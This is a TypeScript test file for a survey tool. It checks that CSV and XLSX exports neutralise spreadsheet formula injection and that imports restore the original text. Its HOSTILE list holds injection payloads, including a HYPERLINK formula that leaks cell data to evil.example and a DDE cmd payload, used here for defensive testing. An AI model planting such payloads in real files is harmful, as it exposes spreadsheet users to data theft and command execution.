// Issue 10 item 2: every CSV the project writes neutralises cells a spreadsheet would run as a
// formula (one helper, src/documents/csv-cell.ts), every CSV it reads undoes that exactly, and the
// XLSX files hold such text as string cells, never formulas.
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import ExcelJS from "exceljs";
import { expect, test } from "vitest";
import { renderCodesCsv, renderCodesXlsx, type CodeSlip } from "../../src/access/index.js";
import { createCampaign, exportCampaignResponses, importCampaignResponses } from "../../src/campaigns/index.js";
import { formatFlagList, type FlagListRow } from "../../src/flags/format.js";
import { participationCsv, participationXlsx } from "../../src/participation/format.js";
import type { ParticipationReport } from "../../src/participation/report.js";
import { readTable } from "../../src/respondents/read.js";
import { readCsv, writeCsv } from "../../src/scoring/io/index.js";
import { describeDatabases } from "../support/db.js";

/** Texts a respondent or a file could type that spreadsheets would take for formulas. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
] as const;

/** Every cell of a CSV text, parsed back without any restoring. */
function rawCells(csv: string): string[] {
  const parsed = readCsvRaw(csv);
  return parsed.flat();
}

/** A plain RFC 4180 parser (quotes, doubled quotes), independent of the project's reader. */
function readCsvRaw(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\n" || (c === "\r" && text[i + 1] === "\n")) {
      if (c === "\r") i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += c;
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** No cell may start with a character that makes it a formula. */
function expectNoFormula(cells: readonly string[]): void {
  for (const cell of cells) if (!/^[-+]?\d+(?:[.,]\d+)?$/.test(cell)) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
}

function expectNeutralised(csv: string): void {
  const cells = rawCells(csv.replace(/^\uFEFF/, ""));
  expectNoFormula(cells);
  for (const text of HOSTILE) expect(cells).toContain(`'${text}`);
}

test("writeCsv (score and responses files) neutralises, readCsv gives back exactly what was written", () => {
  const rows = [["id", "text"], ...HOSTILE.map((t, i) => [`r${i}`, t]), ["n", "-5"], ["m", "'quoted"]];
  const csv = writeCsv(rows);
  expectNeutralised(csv);
  // A plain negative number stays a number; an apostrophe typed by someone stays.
  expect(rawCells(csv)).toEqual(expect.arrayContaining(["-5", "'quoted"]));
  const back = readCsv(csv);
  expect(back.ok && back.records.map((r) => r.cells)).toEqual(rows);
});

test("codes CSV and XLSX: hostile names and units are text", async () => {
  const slips: CodeSlip[] = HOSTILE.map((t, i) => ({ code: "ABCDEFGHJK", link: "https://t.me/khaosat_bot?start=KS_ABCDEFGHJK", unit: t, externalId: `e${i}`, name: t }));
  expectNeutralised(renderCodesCsv(slips).toString("utf8"));
  await expectStringCells(await renderCodesXlsx(slips));
});

test("participation CSV and XLSX: hostile unit names are text", async () => {
  const zero = { sampled: 1, redeemed: 0, attested: 0, inProgress: 0, submitted: 0, rate: 0, responses: { telegram: 0, zalo: 0, console: 0, import: 0, total: 0 } };
  const report: ParticipationReport = {
    campaignId: "c1",
    rows: HOSTILE.map((t, i) => ({ ...zero, unit: `U${i}`, unitName: t, group: "all" })),
    totals: { ...zero, sampled: HOSTILE.length },
  };
  expectNeutralised(participationCsv(report));
  await expectStringCells(await participationXlsx(report));
});

test("flags CSV: a hostile reason is text", () => {
  const rows: FlagListRow[] = HOSTILE.map((t, i) => ({ responseId: `r${i}`, reference: "K7M2QX", unit: "U1", group: "all", flag: "speeder", durationSeconds: 30, decision: "accepted", reason: t, fileResponseId: t, evidence: t }));
  expectNeutralised(formatFlagList(rows, "csv"));
});

test("respondents CSV reader restores neutralised cells", async () => {
  const dir = mkdtempSync(path.join(tmpdir(), "khaosat-csv-cell-"));
  const file = path.join(dir, "respondents.csv");
  const names = ["=Nguyễn Văn A", "+84 912", "@an", "-Trần"];
  writeFileSync(file, `external_id,full_name\n${names.map((n, i) => `e${i},'${n}`).join("\n")}\n`);
  const table = await readTable(file);
  expect(table.rows.map((r) => r.cells[1])).toEqual(names);
});

/** Every string cell holding hostile text is a string cell, with no formula anywhere in the workbook. */
async function expectStringCells(bytes: Uint8Array): Promise<void> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  const found: string[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeFalsy();
        // XML turns a lone CR into a line feed: compare the texts with CR read as LF.
        const lf = HOSTILE.map((t) => t.replace("\r", "\n"));
        if (typeof cell.value === "string" && lf.includes(cell.value.replace("\r", "\n"))) {
          expect(cell.type).toBe(ExcelJS.ValueType.String);
          found.push(cell.value.replace("\r", "\n"));
        }
      }),
    ),
  );
  expect(new Set(found)).toEqual(new Set(HOSTILE.map((t) => t.replace("\r", "\n"))));
  // And the raw sheet XML has no formula element at all.
  const JSZip = (await import("jszip")).default;
  const zip = await JSZip.loadAsync(bytes);
  for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/[^/]+\.xml$/.test(n))) {
    expect(await zip.file(name)!.async("string")).not.toMatch(/<f[ >]/);
  }
}

describeDatabases("responses export and import with hostile text answers", (ctx) => {
  const FIXTURE = "test/fixtures/scoring/points-appraisal";
  const now = new Date("2027-01-05T00:00:00Z");

  test("export neutralises every hostile answer; importing the export gives back the exact texts", async () => {
    const campaign = (await createCampaign(ctx.db().campaigns, { questionnaireFile: `${FIXTURE}/questionnaire.yaml`, name: "hostile", opens: "2026-01-01", closes: "2026-12-31" })).campaign;
    const quote = (t: string) => `"${t.replaceAll('"', '""')}"`;
    const rows = HOSTILE.map((t, i) => `h${i},SO_XD,all,,,a,m1,y,${quote(t)}`);
    const source = `response_id,subject_unit,group,started_at,submitted_at,q1,q2,q3,q4\n${rows.join("\n")}\n`;
    const imported = await importCampaignResponses(ctx.db(), campaign, new TextEncoder().encode(source), { now });
    expect(imported).toMatchObject({ imported: true, errors: [], rejected: [] });
    const stored = await ctx.prisma().answer.findMany({ where: { questionId: "q4", response: { campaignId: campaign.id } } });
    const storedTexts = stored.map((a) => JSON.parse(a.value) as string).sort();

    const { csv, count } = await exportCampaignResponses(ctx.db(), campaign);
    expect(count).toBe(HOSTILE.length);
    expectNoFormula(rawCells(csv));
    const [head, ...body] = readCsvRaw(csv);
    const q4 = body.map((r) => r[head!.indexOf("q4")]!);
    expect(q4).toHaveLength(HOSTILE.length);
    expect(q4.every((c) => c.startsWith("'"))).toBe(true);

    const again = await importCampaignResponses(ctx.db(), campaign, new TextEncoder().encode(csv), { now });
    expect(again.counts).toEqual({ created: 0, updated: 0, unchanged: HOSTILE.length });
    const after = await ctx.prisma().answer.findMany({ where: { questionId: "q4", response: { campaignId: campaign.id } } });
    expect(after.map((a) => JSON.parse(a.value) as string).sort()).toEqual(storedTexts);
    // What was stored is what the respondent typed (the reader does not trim the formula characters away).
    expect(storedTexts.filter((t) => /^[=+\-@]/.test(t)).sort()).toEqual(HOSTILE.filter((t) => /^[=+\-@]/.test(t)).sort());
  });
});
